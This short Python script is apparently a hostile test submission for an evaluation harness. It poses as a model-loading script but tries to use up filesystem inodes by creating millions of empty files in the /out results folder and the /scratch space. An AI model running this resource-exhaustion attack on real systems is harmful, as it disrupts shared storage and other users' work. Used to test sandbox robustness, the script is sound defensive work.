# Tries: to use up inodes with empty files, in the folder for results and in scratch space.


def main():
    for folder in ("/out", "/scratch"):
        try:
            for number in range(5_000_000):
                open(f"{folder}/{number}", "wb").close()
        except OSError as error:
            print(folder, number, error, flush=True)


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
